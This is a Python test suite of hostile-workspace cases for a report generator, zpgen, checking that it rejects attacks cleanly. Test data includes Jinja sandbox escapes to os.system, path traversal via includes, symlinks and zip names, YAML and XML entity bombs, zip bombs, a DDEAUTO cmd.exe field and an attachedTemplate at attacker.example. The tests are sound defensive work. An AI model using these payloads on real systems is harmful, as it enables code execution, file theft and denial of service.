"""Hostile inputs: what a colleague's workspace might hold to harm the user, and what zpgen says.

Each case changes a copy of the seed's workspace (``ws``; the seed's reports built first when the
case needs them) beside a folder ``outside`` that stands for the user's other files, then runs a
``zpgen`` command in a process of its own, under a memory limit (``process.py``). ``expect`` are
the texts its output must hold, ``refuse`` those it must not (a secret from outside, a traceback),
``exit`` its exit code.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from ..conftest import SEED_UNIT, UNIT_NAME

P1_FILE = "01-数据系统维护费.yaml"
P1 = "数据系统维护费专项资金"
SECRET = "机密-7f3a-用户的私人文件"

Setup = Callable[[Path, Path], None]


@dataclass(frozen=True)
class Case:
    name: str
    setup: Setup
    args: tuple[str, ...] = ("build", "-j1")
    exit: int = 1
    expect: tuple[str, ...] = ()
    refuse: tuple[str, ...] = ()
    check: Callable[[Path, Path], None] | None = None
    built_first: bool = False
    seconds: float = 20.0  # the test fails if the command takes longer


CASES: list[Case] = []


def case(name: str, **options: object) -> Callable[[Setup], Setup]:
    def register(setup: Setup) -> Setup:
        CASES.append(Case(name, setup, **options))  # type: ignore[arg-type]
        return setup

    return register


def unit_dir(ws: Path) -> Path:
    return ws / "data" / "2023" / SEED_UNIT


def template(ws: Path, name: str, text: str) -> None:
    path = ws / "templates" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def config(ws: Path, text: str) -> None:
    (ws / "zpgen.yaml").write_text(text, encoding="utf-8")


def body(ws: Path, line: str, *, limits: str = "") -> None:
    """A body.j2 that extends the built-in one and adds ``line`` to its last section."""
    template(
        ws,
        "body.j2",
        '{% extends "builtin/body.j2" %}\n{% block extra_sections %}\n' + line + "\n"
        "{% endblock %}\n",
    )
    if limits:
        config(ws, f"限制: {{{limits}}}\n")


# --- templates ----------------------------------------------------------------------------------


@case(
    "template-reads-a-file-through-the-project",
    expect=("ProjectView 没有属性“file”", "body.j2:3"),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ project.file.joinpath('" + str(outside / "secret.txt") + "').read_text() }}")


@case("template-calls-a-model-method", expect=("body.j2:3", "model_dump_json"))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ project.data.model_dump_json() }}")


@case("template-climbs-to-python-globals", expect=("body.j2:3",), refuse=("Traceback",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ cycler.__init__.__globals__.os.system('touch " + str(outside / "pwned") + "') }}")


@case("template-climbs-through-a-string", expect=("body.j2:3",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ''.__class__.__mro__[1].__subclasses__() }}")


@case("template-format-string-escape", expect=("body.j2:3",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ '{0.__class__.__init__.__globals__}'.format(project) }}")


@case("template-includes-a-file-outside", expect=("“../zpgen.yaml”", "模板"))
def _(ws: Path, outside: Path) -> None:
    config(ws, "输出格式: txt\n")
    body(ws, '{% include "../zpgen.yaml" %}')


@case("template-includes-an-absolute-path", expect=("找不到模板",), refuse=(SECRET,))
def _(ws: Path, outside: Path) -> None:
    body(ws, '{% include "' + str(outside / "secret.txt") + '" %}')


@case(
    "template-is-a-link-to-a-secret",
    expect=("templates/body.j2", "工作区以外的链接"),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").mkdir()
    (ws / "templates" / "body.j2").symlink_to(outside / "secret.txt")


@case("template-folder-links-outside", expect=("模板文件夹以外的链接",), refuse=(SECRET,))
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").mkdir()
    (ws / "templates" / "lib").symlink_to(outside)
    body(ws, '{% include "lib/secret.txt" %}')


@case(
    "template-loops-for-ever",
    expect=("模板已运行超过 5 秒", "body.j2:3", "模板用时"),
    seconds=30,
)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}")


@case("template-loops-past-its-raised-limit", expect=("模板已运行超过 1 秒",))
def _(ws: Path, outside: Path) -> None:
    body(
        ws,
        "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
        limits="模板用时: 1",
    )


@case("template-multiplies-text-to-gigabytes", expect=("超过 10,000,000 个字符", "body.j2:3"))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ 'a' * 10**10 }}")


@case("template-macro-calls-itself", expect=("超过 50 层", "调用深度"), seconds=10)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{% macro again(n) %}{{ again(n + 1) }}{% endmacro %}{{ again(0) }}")


@case("template-includes-itself", expect=("超过 50 层",), seconds=10)
def _(ws: Path, outside: Path) -> None:
    template(ws, "loop.j2", '{% include "loop.j2" %}\n')
    body(ws, '{% include "loop.j2" %}')


@case("template-asks-for-a-billion-numbers", expect=("range() 有 1,000,000,000 个数", "循环次数"))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{% for i in range(10**9) %}{% endfor %}")


@case("template-centres-in-a-gigabyte", expect=("模板传入了数 1,000,000,000",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ 'x'|center(10**9) }}")


@case("template-formats-to-a-huge-width", expect=("数百万个字符宽",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ '{:>999999999}'.format(1) }}")


@case("template-doubles-text-in-a-loop", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(
        ws,
        "{% set ns = namespace(s='ab') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}"
        "{% endfor %}{{ ns.s|length }}",
    )


@case("template-doubles-a-list-without-a-loop", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    lines = ["{% set a0 = ['x' * 1000] %}"]
    lines += [f"{{% set a{n} = [a{n - 1}, a{n - 1}] %}}" for n in range(1, 40)]
    body(ws, "".join(lines) + "{{ a39|string }}")


@case("template-divides-by-zero", expect=("ZeroDivisionError", "body.j2:3"), refuse=("Traceback",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ 1 / 0 }}")


@case("template-asks-for-lorem-ipsum", expect=("模板用到的“lipsum”不是变量",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ lipsum(10**6) }}")


# --- YAML ---------------------------------------------------------------------------------------


def project_text(ws: Path) -> str:
    return (unit_dir(ws) / P1_FILE).read_text(encoding="utf-8")


@case("yaml-billion-laughs", args=("check",), expect=("05-炸弹.yaml:2:1", "YAML 别名"), seconds=10)
def _(ws: Path, outside: Path) -> None:
    lines = ['附加: &a ["哈哈哈哈哈哈哈哈哈"]']
    for n in range(1, 10):
        lines.append(f"附加{n}: &a{n} [" + ", ".join([f"*a{n - 1}" if n > 1 else "*a"] * 9) + "]")
    (unit_dir(ws) / "05-炸弹.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")


@case("yaml-recursive-alias", args=("check",), expect=("05-递归.yaml:1", "YAML 别名"))
def _(ws: Path, outside: Path) -> None:
    (unit_dir(ws) / "05-递归.yaml").write_text("项目名称: &r [*r]\n", encoding="utf-8")


# the libyaml of recent PyYAML wheels stops at 1,000 levels; an older one (PyYAML 6.0) reads the tree
# and zpgen's own bound (20 levels) stops it: either way one error, no crash
@case("yaml-nested-20000-deep", args=("check",), expect=("05-嵌套.yaml:1", "嵌套超过"))
def _(ws: Path, outside: Path) -> None:
    (unit_dir(ws) / "05-嵌套.yaml").write_text(
        "项目名称: " + "[" * 20000 + "]" * 20000 + "\n", encoding="utf-8"
    )


@case("yaml-nested-block-mappings", args=("check",), expect=("嵌套超过 20 层",))
def _(ws: Path, outside: Path) -> None:
    text = "".join(f"{'  ' * n}层{n}:\n" for n in range(40)) + "  " * 40 + "值\n"
    (unit_dir(ws) / "05-嵌套.yaml").write_text(text, encoding="utf-8")


@case(
    "yaml-link-to-dev-zero", args=("check",), expect=("05-零.yaml", "工作区以外的链接"), seconds=10
)
def _(ws: Path, outside: Path) -> None:
    (unit_dir(ws) / "05-零.yaml").symlink_to("/dev/zero")


@case("yaml-link-to-a-secret", args=("check",), expect=("工作区以外的链接",), refuse=(SECRET,))
def _(ws: Path, outside: Path) -> None:
    (unit_dir(ws) / "05-秘密.yaml").symlink_to(outside / "secret.yaml")


@case("yaml-pipe-as-a-project", args=("check",), expect=("不是普通文件",), seconds=10)
def _(ws: Path, outside: Path) -> None:
    os.mkfifo(unit_dir(ws) / "05-管道.yaml")


@case(
    "yaml-file-of-two-megabytes",
    args=("check",),
    expect=("超过了 zpgen 对这类文件读取的上限 1,024 KB", "数据文件"),
)
def _(ws: Path, outside: Path) -> None:
    (unit_dir(ws) / "05-大.yaml").write_text("项目名称: " + "长" * 700_000 + "\n", encoding="utf-8")


@case(
    "yaml-unit-folder-links-outside",
    args=("check",),
    expect=("这个文件夹是指向工作区以外的链接",),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "data" / "2023" / "别人的单位").symlink_to(outside / "unit")


@case(
    "config-data-folder-outside",
    args=("check",),
    expect=("数据文件夹“../outside”在工作区", "zpgen.yaml:1:1"),
)
def _(ws: Path, outside: Path) -> None:
    config(ws, "数据文件夹: ../outside\n")


@case("config-output-folder-outside", expect=("输出文件夹“", "--out"))
def _(ws: Path, outside: Path) -> None:
    config(ws, f"输出文件夹: {outside / 'site-packages'}\n")


@case("config-template-folder-is-root", expect=("模板文件夹“/etc”在工作区",))
def _(ws: Path, outside: Path) -> None:
    config(ws, "模板文件夹: /etc\n")


@case("config-base-document-outside", expect=("参考文档“",))
def _(ws: Path, outside: Path) -> None:
    config(ws, f"参考文档: {outside / 'base.docx'}\n")


@case(
    "config-limit-above-its-ceiling",
    args=("check",),
    expect=("[限制.模板用时]", "应在 1 到 60 之间"),
    exit=1,
)
def _(ws: Path, outside: Path) -> None:
    config(ws, "限制:\n  模板用时: 100000\n")


# --- the bookkeeping ----------------------------------------------------------------------------


def orphans(ws: Path, *paths: str) -> None:
    """Add orphans to the bookkeeping, each recorded with the hash of an empty file."""
    import json

    book = ws / "output" / ".zpgen-build.json"
    data = json.loads(book.read_text(encoding="utf-8"))
    record = {
        "format": "txt",
        "fingerprint": "0",
        "sha256": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "size": 0,
        "mtime_ns": 0,
    }
    data["orphans"].update({path: record for path in paths})
    book.write_text(json.dumps(data), encoding="utf-8")


@case(
    "bookkeeping-prunes-the-config",
    args=("build", "--prune", "-j1"),
    built_first=True,
    exit=0,
    expect=("构建记录",),
)
def _(ws: Path, outside: Path) -> None:
    config(ws, "输出格式: [txt, docx]\n")
    orphans(ws, "../zpgen.yaml")


@case(
    "bookkeeping-prunes-outside",
    args=("build", "--prune", "-j1"),
    built_first=True,
    exit=0,
    expect=("构建记录",),
)
def _(ws: Path, outside: Path) -> None:
    orphans(ws, str(outside / "secret.txt"), "../../outside/secret.txt")


@case(
    "bookkeeping-prunes-a-changed-file",
    args=("build", "--prune", "-j1"),
    built_first=True,
    exit=0,
    expect=("未删除",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "output" / "2023" / "旧报告.txt").write_text("有人改过\n", encoding="utf-8")
    orphans(ws, "2023/旧报告.txt")


@case(
    "bookkeeping-is-a-link-to-dev-zero", built_first=True, exit=0, expect=("构建记录",), seconds=10
)
def _(ws: Path, outside: Path) -> None:
    book = ws / "output" / ".zpgen-build.json"
    book.unlink()
    book.symlink_to("/dev/zero")


# --- base documents -----------------------------------------------------------------------------


def seed_base() -> dict[str, bytes]:
    from zpgen.commands.templates import builtin_base_sample

    with zipfile.ZipFile(io.BytesIO(builtin_base_sample())) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def write_zip(path: Path, parts: dict[str, bytes]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def base_path(ws: Path) -> Path:
    return ws / "templates" / "base.docx"


@case("base-docm-with-macros", args=("build", "-f", "docx", "-j1"), exit=0, expect=("宏",))
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    types = (
        parts["[Content_Types].xml"]
        .replace(b"wordprocessingml.document.main+xml", b"macroEnabled.main+xml")
        .replace(
            b"application/vnd.openxmlformats-officedocument.macroEnabled",
            b"application/vnd.ms-word.document.macroEnabled",
        )
    )
    parts["[Content_Types].xml"] = types
    write_zip(base_path(ws), parts)


@case(
    "base-member-named-to-escape",
    args=("build", "-f", "docx", "-j1"),
    exit=0,
    expect=("../../evil.txt",),
)
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    parts["../../evil.txt"] = b"written outside?"
    write_zip(base_path(ws), parts)


@case(
    "base-with-an-attached-template",
    args=("build", "-f", "docx", "-j1"),
    exit=0,
    expect=("attachedTemplate",),
)
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    parts["word/settings.xml"] = (
        parts["word/settings.xml"]
        .replace(b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom')
        .replace(
            b"<w:settings ",
            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    )
    write_zip(base_path(ws), parts)


@case(
    "base-zip-bomb", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",), seconds=20
)
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    parts["word/media/image1.png"] = bytes(120 * 1024 * 1024)
    write_zip(base_path(ws), parts)


@case(
    "base-claims-four-gigabytes", args=("build", "-f", "docx", "-j1"), expect=("解压后超过 50 MB",)
)
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    raw = bytearray(buffer.getvalue())
    # the central directory says word/styles.xml inflates to 4 GiB
    at = raw.rfind(b"PK\x01\x02" + raw[raw.find(b"PK\x01\x02") + 4 : raw.find(b"PK\x01\x02") + 4])
    entry = raw.find(b"word/styles.xml", raw.find(b"PK\x01\x02"))
    header = entry - 46
    assert raw[header : header + 4] == b"PK\x01\x02" and at >= 0
    raw[header + 24 : header + 28] = struct.pack("<I", 0xFFFFFFF0)
    base_path(ws).parent.mkdir(parents=True, exist_ok=True)
    base_path(ws).write_bytes(bytes(raw))


@case("base-with-corrupt-deflate-data", args=("build", "-f", "docx", "-j1"), expect=("文档已损坏",))
def _(ws: Path, outside: Path) -> None:
    buffer = io.BytesIO()
    write_zip(base_path(ws), seed_base())
    raw = bytearray(base_path(ws).read_bytes())
    start = raw.find(b"word/styles.xml") + len("word/styles.xml")
    raw[start + 10 : start + 60] = b"\xff" * 50
    base_path(ws).write_bytes(bytes(raw))
    del buffer


@case("base-footer-with-a-dde-field", args=("build", "-f", "docx", "-j1"), expect=("DDEAUTO",))
def _(ws: Path, outside: Path) -> None:
    parts = seed_base()
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(
        b"PAGE", b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 1
    )
    write_zip(base_path(ws), parts)


@case(
    "base-document-links-outside", args=("build", "-f", "docx", "-j1"), expect=("工作区以外的链接",)
)
def _(ws: Path, outside: Path) -> None:
    write_zip(outside / "base.docx", seed_base())
    (ws / "templates").mkdir()
    base_path(ws).symlink_to(outside / "base.docx")


@case("totext-of-a-bomb", args=("totext", "bomb.docx"), expect=("解压后超过 50 MB",), seconds=20)
def _(ws: Path, outside: Path) -> None:
    write_zip(ws / "bomb.docx", {"word/document.xml": b"<w:document/>" + bytes(200 * 1024 * 1024)})


@case(
    "totext-of-an-entity-bomb", args=("totext", "lol.docx"), expect=("损坏",), refuse=("lol" * 50,)
)
def _(ws: Path, outside: Path) -> None:
    entities = '<!ENTITY a "lollollollollollollollollollollollollollollollollollollollollollollol">'
    entities += "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
        for p, c in zip("abcdefgh", "bcdefghi", strict=False)
    )
    document = f'<?xml version="1.0"?><!DOCTYPE w [{entities}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p></w:body></w:document>'
    write_zip(ws / "lol.docx", {"word/document.xml": document.encode()})


# --- names, output folders and the command line -------------------------------------------------


@case(
    "name-of-eighty-chinese-characters",
    args=("build", "-f", "txt", "-j1"),
    exit=0,
    expect=("完成：",),
)
def _(ws: Path, outside: Path) -> None:
    path = unit_dir(ws) / P1_FILE
    path.write_text(
        project_text(ws).replace(f"项目名称: {P1}", "项目名称: " + "长" * 80), encoding="utf-8"
    )


@case("names-differing-in-letter-case", args=("check",), expect=("只有字母大小写不同",))
def _(ws: Path, outside: Path) -> None:
    text = project_text(ws)
    (unit_dir(ws) / P1_FILE).write_text(
        text.replace(f"项目名称: {P1}", "项目名称: ABC系统维护费"), encoding="utf-8"
    )
    (unit_dir(ws) / "04-副本.yaml").write_text(
        text.replace(f"项目名称: {P1}", "项目名称: abc系统维护费"), encoding="utf-8"
    )


@case(
    "out-inside-the-data-folder",
    args=("build", "--out", "data/2023"),
    exit=2,
    expect=("数据文件夹",),
)
def _(ws: Path, outside: Path) -> None:
    pass


@case(
    "out-names-a-file",
    args=("build", "--out", f"data/2023/{SEED_UNIT}/unit.yaml"),
    exit=2,
    expect=("--out 指定的是一个文件",),
)
def _(ws: Path, outside: Path) -> None:
    pass


@case(
    "output-year-folder-links-outside",
    args=("build", "-f", "txt", "-j1"),
    expect=("输出文件夹以外的链接",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "output").mkdir()
    (ws / "output" / "2023").symlink_to(outside / "site-packages")


@case(
    "output-report-is-a-link-to-a-secret",
    args=("build", "-f", "txt", "-j1"),
    expect=("这是一个链接",),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    folder = ws / "output" / "2023" / UNIT_NAME
    folder.mkdir(parents=True)
    (folder / f"{P1}.txt").symlink_to(outside / "secret.txt")


@case(
    "output-folder-is-a-file",
    args=("build", "-f", "txt", "-j1"),
    expect=("无法写入文件",),
    refuse=("Traceback",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "output").mkdir()
    (ws / "output" / "2023").write_text("不是文件夹\n", encoding="utf-8")


@case(
    "report-changed-by-hand",
    args=("build", "-f", "txt", "-j1"),
    built_first=True,
    expect=("手工改过，因此没有替换它",),
)
def _(ws: Path, outside: Path) -> None:
    report = ws / "output" / "2023" / UNIT_NAME / f"{P1}.txt"
    report.write_text(report.read_text(encoding="utf-8") + "手工加的一行\n", encoding="utf-8")


@case("set-without-equals", args=("build", "--set", "三级标题编号"), exit=2, expect=("--set",))
def _(ws: Path, outside: Path) -> None:
    pass


@case(
    "schema-out-is-a-file",
    args=("schema", "--out", f"data/2023/{SEED_UNIT}/unit.yaml"),
    expect=("无法", "unit.yaml"),
)
def _(ws: Path, outside: Path) -> None:
    pass


# --- commands other than build that write into the workspace: never through a link -------------


@case("new-year-year-folder-links-outside", args=("new-year", "2024"), expect=("工作区以外的链接",))
def _(ws: Path, outside: Path) -> None:
    (outside / "target").mkdir()
    (ws / "data" / "2024").symlink_to(outside / "target")


@case("new-year-file-is-a-dangling-link", args=("new-year", "2024"), expect=("这是一个链接",))
def _(ws: Path, outside: Path) -> None:
    folder = ws / "data" / "2024" / SEED_UNIT
    folder.mkdir(parents=True)
    (folder / "unit.yaml").symlink_to(outside / "written-by-zpgen.yaml")


@case(
    "new-year-unit-folder-links-outside",
    args=("new-year", "2024"),
    expect=("工作区以外的链接",),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "data" / "2023" / "别人的单位").symlink_to(outside / "unit")


@case("templates-copy-through-a-link", args=("templates", "copy", "body.j2"), expect=("链接",))
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").mkdir()
    (ws / "templates" / "body.j2").symlink_to(outside / "written-by-zpgen.txt")


@case(
    "templates-copy-force-through-a-link",
    args=("templates", "copy", "body.j2", "--force"),
    expect=("链接",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").mkdir()
    (ws / "templates" / "body.j2").symlink_to(outside / "secret.txt")


@case(
    "templates-copy-folder-links-outside",
    args=("templates", "copy", "body.j2"),
    expect=("之外：zpgen 只在工作区",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").symlink_to(outside / "site-packages")


@case(
    "import-year-folder-links-outside",
    args=("import", "去年的报告.txt", "--year", "2022", "--unit", "测试单位"),
    expect=("工作区以外的链接",),
)
def _(ws: Path, outside: Path) -> None:
    report = Path(__file__).parents[1] / "fixtures" / "seed-report.txt"
    (ws / "去年的报告.txt").write_bytes(report.read_bytes())
    (outside / "imported").mkdir()
    (ws / "data" / "2022").symlink_to(outside / "imported")


@case("summary-year-folder-links-outside", args=("summary",), expect=("工作区以外的链接",))
def _(ws: Path, outside: Path) -> None:
    (ws / "output").mkdir()
    (ws / "output" / "2023").symlink_to(outside / "site-packages")


# --- template work bounded before Python allocates it -------------------------------------------


@case("template-adds-text-to-itself-in-a-loop", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(
        ws,
        "{% set ns = namespace(s='ab') %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}"
        "{% endfor %}{{ ns.s|length }}",
    )


@case("template-expands-tabs-to-gigabytes", expect=("超过 10,000,000 个字符",), seconds=10)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('\\t' * 400).expandtabs(9999999)|length }}")


@case("template-indents-to-gigabytes", expect=("超过 10,000,000 个字符",), seconds=10)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('\\n' * 400)|indent(9999999, true, true)|length }}")


@case("template-takes-a-width-from-its-arguments", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('{0:{1}}' * 30).format('', 9999999)|length }}")


@case("template-takes-a-percent-width-from-its-values", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ (('%*s' * 100) % ((9999999, '') * 100))|length }}")


@case("template-nests-100-ifs", expect=("嵌套太深", "body.j2"), refuse=("Traceback",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{% if 1 %}" * 100 + "x" + "{% endif %}" * 100)


@case(
    "templates-list-reads-a-template-that-is-not-utf8",
    args=("templates", "list"),
    expect=("UTF-8",),
)
def _(ws: Path, outside: Path) -> None:
    (ws / "templates").mkdir()
    (ws / "templates" / "bad.j2").write_bytes(b"\xff\xfe")


@case(
    "templates-list-reads-a-link-to-a-secret",
    args=("templates", "list"),
    expect=("工作区以外的链接",),
    refuse=(SECRET,),
)
def _(ws: Path, outside: Path) -> None:
    (outside / "stolen.j2").write_text(
        "{% block " + "stolen %}{% endblock %}" + SECRET, encoding="utf-8"
    )
    (ws / "templates").mkdir()
    (ws / "templates" / "stolen.j2").symlink_to(outside / "stolen.j2")


@case(
    "output-folder-holds-the-workspace",
    args=("build", "--prune", "-f", "txt", "-j1"),
    expect=("包含了",),
)
def _(ws: Path, outside: Path) -> None:
    config(ws, "输出文件夹: data/..\n")  # then a forged orphan would let --prune delete data


@case("out-holds-the-workspace", args=("build", "--out", "."), exit=2, expect=("包含了",))
def _(ws: Path, outside: Path) -> None:
    pass


def _no_address_printed(ws: Path, outside: Path) -> None:
    report = (ws / "output" / "2023" / UNIT_NAME / f"{P1}.txt").read_text(encoding="utf-8")
    assert "ProjectView(" in report and " at 0x" not in report, "the data's repr, no address"


@case(
    "template-prints-the-view-as-text",
    args=("build", "-f", "txt", "-j1"),
    exit=0,
    check=_no_address_printed,
)
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ '%s' % project }}")


@case("template-formats-many-wide-fields", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('{0:999999}' * 200).format('')|length }}")


@case("template-percent-formats-many-wide-fields", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ (('%999999s' * 200) % (('',) * 200))|length }}")


@case("template-format-filter-takes-widths-from-its-values", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('%*s' * 20)|format(" + ", ".join(["9999999, ''"] * 20) + ")|length }}")


@case("template-takes-a-width-from-a-list-argument", expect=("超过 10,000,000 个字符",))
def _(ws: Path, outside: Path) -> None:
    body(ws, "{{ ('{0:{1[0]}}' * 30).format('', [9999999])|length }}")
